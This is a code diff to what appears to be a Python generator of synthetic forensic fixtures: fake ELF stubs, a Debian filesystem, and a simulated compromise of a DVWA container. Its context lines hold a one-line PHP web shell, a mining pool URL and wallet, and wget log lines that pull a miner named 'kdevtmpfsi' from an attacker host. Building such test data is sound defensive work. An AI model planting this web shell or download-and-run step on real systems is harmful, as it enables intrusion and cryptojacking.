@@ -92,8 +92,9 @@ def tabwriter(rows: list[list[str]], minwidth: int, padding: int) -> str:
     return "\n".join(out) + "\n"
 
 
-def elf_stub(label: str, strings: list[str]) -> bytes:
-    """A small ELF64 x86-64 executable-looking blob: valid header magic, a few strings."""
+def elf_stub(label: str, strings: list[str], size: int = 0) -> bytes:
+    """A small ELF64 x86-64 executable-looking blob: valid header magic, a few strings,
+    padded with fixed bytes to `size` when given."""
     hdr = bytearray(64)
     hdr[0:4] = b"\x7fELF"
     hdr[4:8] = bytes([2, 1, 1, 0])  # 64-bit, little endian, version 1, SYSV ABI
@@ -106,7 +107,11 @@ def elf_stub(label: str, strings: list[str]) -> bytes:
     hdr[54:56] = (56).to_bytes(2, "little")  # phentsize
     body = b"\0" * 64 + ("\0".join([label] + strings) + "\0").encode()
     body += bytes((i * 37 + 11) % 256 for i in range(256))  # fixed "code" bytes
-    return bytes(hdr) + body
+    blob = bytes(hdr) + body
+    if not size:
+        return blob
+    assert len(blob) <= size, (label, len(blob), size)
+    return blob + bytes((i * 91 + 7) % 256 for i in range(size - len(blob)))
 
 
 def class_stub(name: str) -> bytes:
@@ -571,7 +576,7 @@ def debian_rootfs(epoch: int, os_release: str, version: str, extra: list[E]) -> 
         E("srv", "d", mtime=m), E("sys", "d", mtime=m), E("tmp", "d", mode=0o1777, mtime=m),
         E("usr", "d", mtime=m), E("usr/bin", "d", mtime=m),
         E("usr/bin/perl", data=elf_stub("perl", ["This is perl 5"]), mode=0o755, mtime=m),
-        E("usr/bin/perl5.28.1", "h", link="usr/bin/perl", mtime=m),
+        E("usr/bin/perl5.28.1", "h", link="usr/bin/perl", mode=0o755, mtime=m),
         E("usr/bin/id", data=elf_stub("id", ["GNU coreutils"]), mode=0o755, mtime=m),
         E("usr/lib", "d", mtime=m), E("usr/lib/os-release", data=os_release, mtime=m),
         E("usr/local", "d", mtime=m), E("usr/local/bin", "d", mtime=m), E("usr/sbin", "d", mtime=m),
@@ -644,6 +649,7 @@ done
 WEBSHELL_PHP = "<?php @eval($_POST['cmd']); ?>\n"
 
 MINER_URL = "stratum+tcp://xmr.pool-minexmr.example:4444"
+MINER_SIZE = 2214  # what wget reported downloading
 MINER_WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
 
 M_SH = f"""#!/bin/sh
@@ -838,12 +844,12 @@ def dvwa_traffic():
         f"--2026-11-27 14:11:40--  http://{a}:8000/kdevtmpfsi",
         f"Connecting to {a}:8000... connected.",
         "HTTP request sent, awaiting response... 200 OK",
-        "Length: 2214 (2.2K) [application/octet-stream]",
+        f"Length: {MINER_SIZE} (2.2K) [application/octet-stream]",
         "Saving to: '/tmp/kdevtmpfsi'",
         "",
         "     0K ..                                                    100%  412M=0s",
         "",
-        "2026-11-27 14:11:47 (412 MB/s) - '/tmp/kdevtmpfsi' saved [2214/2214]",
+        f"2026-11-27 14:11:47 (412 MB/s) - '/tmp/kdevtmpfsi' saved [{MINER_SIZE}/{MINER_SIZE}]",
         "",
     ]
     err += [(t("2026-11-27T14:11:47") if i > 0 else t("2026-11-27T14:11:40"), line) for i, line in enumerate(wget)]
@@ -885,8 +891,7 @@ def dvwa_commit_layer(lower: dict[str, E], acc, err) -> list[E]:
     """The container's read-write layer at commit time (overlay2 upper dir as moby tars it)."""
     access = "".join(line + "\n" for _, line in acc).encode()
     error = "".join(line + "\n" for _, line in err).encode()
-    miner = elf_stub("kdevtmpfsi", ["XMRig 6.21.0", MINER_URL, MINER_WALLET, "--donate-level", "randomx"])
-    assert len(miner) < 4096
+    miner = elf_stub("kdevtmpfsi", ["XMRig 6.21.0", MINER_URL, MINER_WALLET, "--donate-level", "randomx"], MINER_SIZE)
     sess = 'dvwa_session|i:1;session_token|s:32:"5f3c8e0b9a7d4c21e6f0b1a2c3d4e5f6";username|s:5:"admin";security|s:3:"low";'
     entries = [
         E("etc/cron.d", "d", mtime=t("2026-11-27T14:33:40")),
